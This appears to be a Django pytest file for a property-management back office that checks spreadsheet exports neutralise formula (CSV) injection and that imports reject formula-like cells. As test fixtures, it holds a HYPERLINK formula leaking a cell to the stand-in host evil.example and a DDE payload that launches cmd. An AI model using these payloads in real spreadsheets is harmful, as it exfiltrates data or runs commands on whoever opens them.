"""Formula injection (OWASP "CSV injection"): every Excel/CSV export writes text as text, the import refuses formulas.

A name such as ``=HYPERLINK("http://evil.example/?"&G2,"点击")`` typed into the back office (or
arriving from elsewhere) must never run in the spreadsheet program of whoever opens an export.
"""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from accounts.models import Role
from estates.models import Estate, Owner
from estates.services import role_grant
from tests.billing.factories import bill, billed_estate

from .factories import OwnerFactory, OwnershipFactory, UnitFactory, UserFactory
from .test_inventory import ESTATE_HEAD, OWNER_HEAD, good_sheets, snapshot, xlsx

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&G2,"点击")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3"
AT = "@SUM(1,2)"


@pytest.fixture
def staff_x(sync_groups):
    estate = Estate.objects.get(pk=UnitFactory(floor=-1, number="B01").building.estate_id)
    user = UserFactory(mobile="13900000301")
    role_grant(user=user, role=Role.ESTATE_STAFF, estate=estate)
    for name in (HYPERLINK, PLUS, MINUS, AT):
        OwnershipFactory(unit=UnitFactory(building=estate.buildings.first()), owner=OwnerFactory(estate=estate, name=name))
    return user, estate


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def text_cells(data: bytes, sheet: str | None = None) -> dict:
    """Every cell whose value is one of the risky names: value -> (data_type, quotePrefix)."""
    book = openpyxl.load_workbook(io.BytesIO(data))  # not read-only: styles (the quote prefix) are wanted
    found = {}
    for ws in [book[sheet]] if sheet else book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in (HYPERLINK, PLUS, MINUS, AT):
                    found[cell.value] = (cell.data_type, cell.quotePrefix)
    return found


def assert_all_text(found: dict) -> None:
    assert set(found) == {HYPERLINK, PLUS, MINUS, AT}, found
    # "s": a string cell, not "f" (a live formula); the quote prefix keeps it text when edited in Excel.
    assert all(found[value] == ("s", True) for value in found), found


def test_back_office_inventory_download_writes_names_as_text(client, staff_x):
    user, _estate = staff_x
    client.force_login(user)
    data = body(client.get(reverse("inventory_export")))
    assert_all_text(text_cells(data, "业主"))
    # A negative floor is still a number.
    floors = [row[3] for row in openpyxl.load_workbook(io.BytesIO(data))["房屋"].iter_rows(min_row=2, values_only=True)]
    assert -1 in floors


def test_export_inventory_command_writes_names_as_text(staff_x, tmp_path):
    path = tmp_path / "inventory.xlsx"
    call_command("export_inventory", str(path))
    assert_all_text(text_cells(path.read_bytes(), "业主"))


def test_arrears_export_writes_payer_names_as_text(client, sync_groups):
    estate, units = billed_estate(units=4, code="AR")
    for unit, name in zip(units, (HYPERLINK, PLUS, MINUS, AT), strict=True):
        owner = unit.ownerships.get().owner
        Owner.objects.filter(pk=owner.pk).update(name=name)
        bill(unit, Decimal("12.50"))
    user = UserFactory(mobile="13900000302")
    role_grant(user=user, role=Role.ESTATE_STAFF, estate=estate)
    client.force_login(user)
    response = client.get(reverse("billing_arrears:export"))
    assert response.status_code == 200
    assert_all_text(text_cells(response.content, "账单 Bills"))
    amounts = [
        row[7]
        for row in openpyxl.load_workbook(io.BytesIO(response.content))["账单 Bills"].iter_rows(min_row=2, values_only=True)
    ]
    assert amounts == [12.5] * 4  # money stays a number


def test_list_csv_export_prefixes_formulas_with_an_apostrophe(client, staff_x):
    user, _estate = staff_x
    client.force_login(user)
    response = client.get(reverse("estates_owner:index") + "?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(body(response).decode())))
    names = {row[2] for row in rows[1:]}
    assert {"'" + HYPERLINK, "'" + PLUS, "'" + MINUS, "'" + AT} <= names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)

    # Numbers are not text: the basement floor stays -1, unprefixed.
    units = list(csv.reader(io.StringIO(body(client.get(reverse("estates_unit:index") + "?export=csv")).decode())))
    assert "-1" in {row[2] for row in units[1:]}


def test_list_xlsx_export_writes_formulas_as_text(client, staff_x):
    user, _estate = staff_x
    client.force_login(user)
    response = client.get(reverse("estates_owner:index") + "?export=xlsx")
    assert response.status_code == 200
    assert_all_text(text_cells(body(response)))


def test_every_list_export_of_the_back_office_goes_through_the_shared_helper():
    from wagtail.admin.viewsets import viewsets

    from estates.spreadsheets import SafeSpreadsheetExportMixin

    reverse("estates_owner:index")  # the registry fills when the admin URLs load
    exporting = [vs for vs in viewsets.viewsets if isinstance(getattr(vs, "list_export", None), list | tuple) and vs.list_export]
    assert {"estates_owner", "estates_unit", "billing_invoice"} <= {vs.name for vs in exporting}
    unsafe = [vs.name for vs in exporting if not issubclass(vs.index_view_class, SafeSpreadsheetExportMixin)]
    assert unsafe == []


# --- the import refuses them --------------------------------------------------------------------


def text_xlsx(sheets: dict[str, list[list]]) -> bytes:
    """Like test_inventory.xlsx, but text beginning with "=" is stored as text (as Excel stores a
    typed '=1+1), not turned into a formula cell by openpyxl."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def formula_sheets() -> dict:
    sheets = good_sheets()
    sheets["小区"] = [ESTATE_HEAD, ["CQ-001", "=1+1", "渝中区", "解放碑街道", "民生路社区", "@A1", 1995]]
    sheets["业主"] = [OWNER_HEAD, *sheets["业主"][1:]]
    sheets["业主"][1] = [*sheets["业主"][1]]
    sheets["业主"][1][4] = HYPERLINK
    sheets["业主"][2] = [*sheets["业主"][2]]
    sheets["业主"][2][4] = "\t-2+3"  # a leading tab does not hide it
    return sheets


EXPECTED = [("小区", 2, "B", "name"), ("小区", 2, "F", "address"), ("业主", 2, "E", "name"), ("业主", 3, "E", "name")]


def test_import_command_refuses_formulas_with_sheet_row_and_column(tmp_path):
    before = snapshot()
    path = tmp_path / "inventory.xlsx"
    path.write_bytes(text_xlsx(formula_sheets()))
    with pytest.raises(CommandError) as failure:
        call_command("import_inventory", str(path))
    message = str(failure.value)
    assert "[小区] 第2行 B列 name: 不能以 =、+、-、@ 开头" in message
    assert "Row 2, column E (name): must not begin with =, +, - or @" in message
    assert message.count("must not begin with") == 4
    assert snapshot() == before


def test_upload_refuses_formulas_with_sheet_row_and_column(client, sync_groups):
    admin = UserFactory(mobile="13900000303")
    role_grant(user=admin, role=Role.PLATFORM_ADMIN)
    client.force_login(admin)
    before = snapshot()
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("inventory.xlsx", text_xlsx(formula_sheets()))
    response = client.post(reverse("inventory_import"), {"file": upload})
    report = response.context["report"]
    assert [(e.sheet, e.row, e.column, e.field) for e in report.errors] == EXPECTED
    assert "不能以 =、+、-、@ 开头" in response.content.decode()
    assert snapshot() == before


def test_numbers_written_as_text_are_not_formulas(tmp_path):
    """A basement unit numbered "-101" is a number, not a formula: the import accepts it."""
    sheets = good_sheets()
    sheets["房屋"].append(["CQ-001", "1", 1, -1, "-101", 30, "其他", None])
    from estates.inventory import inventory_import

    report = inventory_import(file=io.BytesIO(xlsx(sheets)))
    assert report.ok, [str(e) for e in report.errors]
    assert report.created["units"] == 4


def test_round_trip_of_normal_data_is_unchanged(tmp_path):
    from estates.inventory import inventory_export, inventory_import

    assert inventory_import(file=io.BytesIO(xlsx(good_sheets()))).ok
    before = snapshot()
    buffer = io.BytesIO()
    inventory_export(file=buffer)
    again = inventory_import(file=io.BytesIO(buffer.getvalue()))
    assert again.ok and again.total_created == 0 and again.total_updated == 0
    assert snapshot() == before
    assert datetime.date(2020, 1, 1) in {o.since for o in Owner.objects.get(name="张三").ownerships.all()}
